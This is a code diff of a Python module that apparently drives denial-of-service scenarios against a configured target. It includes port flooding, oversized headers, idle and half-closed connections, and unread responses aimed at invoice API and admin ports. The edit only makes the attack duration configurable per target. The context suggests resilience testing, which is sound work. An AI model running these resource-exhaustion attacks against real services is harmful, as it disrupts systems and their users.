@@ -9,7 +9,6 @@ from recoup_attack.scene import Outcome, Scene
 from recoup_attack.sockets import GONE, Socket, connected, head, is_open, opened
 from recoup_attack.target import Target
 
-SECONDS = 8.0
 BYTES_A_SECOND = 3_000_000
 """As much as one peer once filled a service's memory with."""
 PIECE = 30_000
@@ -63,19 +62,19 @@ def _nothing(_key: str) -> Iterator[bytes]:
 async def endless(stream: Stream, target: Target) -> Outcome:
     """The same at every port, public and private, for as long as they listen."""
     urls = [url for service in target.services.values() for url in (service.api, service.admin)]
-    sent = await asyncio.gather(*(_poured(url, stream(target.attacker), urls) for url in urls))
-    return Outcome(f"{sum(sent) / 1e6:.1f} MB taken by {len(urls)} ports in {SECONDS:.0f} s")
+    sent = await asyncio.gather(*(_poured(url, stream(target.attacker), target) for url in urls))
+    return Outcome(f"{sum(sent) / 1e6:.1f} MB taken by {len(urls)} ports in {target.seconds:.0f} s")
 
 
-async def _poured(url: str, pieces: Iterator[bytes], urls: list[str]) -> int:
-    sent = 0
+async def _poured(url: str, pieces: Iterator[bytes], target: Target) -> int:
+    sent, ports = 0, 2 * len(target.services)
     try:
-        async with asyncio.timeout(SECONDS), connected(url) as (_, writer):
+        async with asyncio.timeout(target.seconds), connected(url) as (_, writer):
             for piece in pieces:
                 writer.write(piece)
                 await writer.drain()
                 sent += len(piece)
-                await asyncio.sleep(len(piece) * len(urls) / BYTES_A_SECOND)
+                await asyncio.sleep(len(piece) * ports / BYTES_A_SECOND)
     except GONE:
         pass
     return sent
@@ -87,7 +86,7 @@ async def many_headers(target: Target) -> Outcome:
     sent = 0
     try:
         async with (
-            asyncio.timeout(SECONDS * 2),
+            asyncio.timeout(target.seconds * 2),
             connected(target.services["invoice"].api) as (reader, writer),
         ):
             writer.write(head("GET", "/v1/invoices", target.attacker))
@@ -127,11 +126,13 @@ async def idle(target: Target) -> Outcome:
     """Connections on which nothing is ever said."""
     url = target.services["invoice"].api
     sockets = await _many(url, [b""] * IDLE)
-    await asyncio.sleep(SECONDS)
+    await asyncio.sleep(target.seconds)
     living = [each for each in sockets if await is_open(each[0])]
     for _, writer in sockets:
         writer.transport.abort()
-    return Outcome(f"{len(sockets)} of {IDLE} connections, {len(living)} after {SECONDS:.0f} s")
+    return Outcome(
+        f"{len(sockets)} of {IDLE} connections, {len(living)} after {target.seconds:.0f} s"
+    )
 
 
 async def half_closed(target: Target) -> Outcome:
@@ -141,7 +142,7 @@ async def half_closed(target: Target) -> Outcome:
     body = head("POST", "/v1/invoices", target.attacker, Content_Length="100") + b'\r\n{"a'
     answered = 0
     loop = asyncio.get_running_loop()
-    end = loop.time() + SECONDS
+    end = loop.time() + target.seconds
     while loop.time() < end:
         for beginning in (whole, whole[:20], body, b""):
             answered += await _let_go(url, beginning)
@@ -166,7 +167,7 @@ async def unread(target: Target) -> Outcome:
     request = head("GET", "/v1/invoices?limit=100", target.attacker) + b"\r\n"
     sockets = await _many(url, [b""] * 8)
     loop = asyncio.get_running_loop()
-    end = loop.time() + SECONDS
+    end = loop.time() + target.seconds
     sent = 0
     while loop.time() < end:
         for _, writer in sockets:
